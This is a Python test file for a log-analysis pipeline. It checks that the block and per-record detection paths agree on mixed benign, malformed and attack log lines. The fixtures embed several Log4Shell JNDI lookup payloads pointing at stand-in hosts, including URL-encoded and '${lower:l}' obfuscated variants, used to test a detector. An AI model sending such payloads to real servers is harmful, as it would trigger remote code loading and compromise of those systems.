"""The detect stage: the block path and the per-record path agree on everything."""

from __future__ import annotations

from collections import Counter

from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.config import Settings
from pipeline.detect_stage import BatchOutcome, DetectStage, RawRecord
from tests.conftest import DEMO

BENIGN = (DEMO / "apache_logs").read_bytes().splitlines()[:50]
ECS = (DEMO / "corelight_log4j_requests.ecs.jsonl").read_bytes().splitlines()
ATTACK = (DEMO / "crowdsec_log4j.log").read_bytes().strip()
ODD = [
    b"garbage that is no log line",
    b'{"@timestamp": 12, "source": ',
    b"\x00\xff\xfe binary \xc3\x28",
    b'198.51.100.7 - - [12/Dec/2021:10:00:00 +0000] "GET /?q=%24%7Bjndi:ldap://a.example/x%7D HTTP/1.1" 200 1 "-" "-"',
    b'203.0.113.9 - - [12/Dec/2021:10:00:01 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:${lower:l}dap://b.example/y}"\r',
    b'203.0.113.9 - - [12/Dec/2021:10:00:02 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap:"',
    b"203.0.113.9 - - [oops",
    b"",
]
POOL = [*BENIGN, *ECS, ATTACK, *ODD]


def summary(out: BatchOutcome) -> tuple[object, ...]:
    counts = Counter()
    for per_stream in out.by_stream.values():
        counts.update(per_stream)
    return (
        {k: v for k, v in counts.items() if v},
        sorted((d.event_id, d.malicious, d.fields) for d in out.detections),
        sorted((r.event_id, e.reason) for r, e in out.dead),
    )


def both_paths(values: list[bytes]) -> tuple[tuple[object, ...], tuple[object, ...]]:
    stage = DetectStage(Settings())
    records = [RawRecord(v, "f", i + 1, sep=":") for i, v in enumerate(values) if v.strip()]
    per_record = stage.process(records)
    block = stage.process_block(
        values,
        lambda i: RawRecord(values[i], "f", i + 1, sep=":"),
        "f",
        len(values),
        skip_blank=True,
    )
    return summary(per_record), summary(block)


def test_block_path_agrees_with_per_record_path_on_mixed_input() -> None:
    values = [*BENIGN[:5], ODD[0], ATTACK, ODD[7], *ECS[:3], ODD[1], ODD[2], ODD[3], ODD[4], ODD[5], ODD[6]]
    per_record, block = both_paths(values)
    assert block == per_record
    counts, detections, dead = block
    assert counts["lines"] == len(values) - 1  # the blank line is not a record
    assert counts["lines"] == counts["parsed"] + counts["dead_letters"]
    assert counts["ambiguous"] == 4
    assert dict(dead) == {
        "f:6": "not_access_log",  # garbage
        # A truncated JSON record is claimed by no format: it takes the fallback
        # parser and is counted as ambiguous.
        "f:12": "not_access_log",
        "f:13": "not_access_log",  # binary
        "f:17": "not_access_log",  # truncated access-log line
    }
    verdicts = {event_id: malicious for event_id, malicious, _ in detections}
    # crowdsec, three corelight requests, url-encoded, lower-case; one inert attempt
    assert verdicts == {
        "f:7": True,
        "f:9": True,
        "f:10": True,
        "f:11": True,
        "f:14": True,
        "f:15": True,
        "f:16": False,
    }


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(POOL), min_size=1, max_size=40))
def test_block_path_agrees_with_per_record_path_on_any_mix(values: list[bytes]) -> None:
    per_record, block = both_paths(values)
    assert block == per_record


def test_block_of_one_format_counts_clean_lines_without_parsing_them() -> None:
    stage = DetectStage(Settings())
    out = stage.process_block(BENIGN, lambda i: RawRecord(BENIGN[i], "f", i + 1), "f", len(BENIGN))
    counts = out.by_stream["f"]
    assert (counts["lines"], counts["parsed"], counts["prefiltered"]) == (50, 50, 50)
    assert out.formats == {"combined": 50}


def test_detection_uses_broker_time_when_the_log_has_none() -> None:
    line = b'{"source": {"ip": "198.51.100.7"}, "user_agent": {"original": "${jndi:ldap://c.example/z}"}}'
    stage = DetectStage(Settings())
    out = stage.process([RawRecord(line, "t/0", 5, broker_time=1639303200.0, format="ecs")])
    (detection,) = out.detections
    assert (detection.timestamp, detection.timestamp_source) == (1639303200.0, "broker")
    assert out.by_stream["t/0"]["timestamp_fallbacks"] == 1
    assert detection.event_id == "t/0/5"
    assert detection.source_ip == "198.51.100.7"
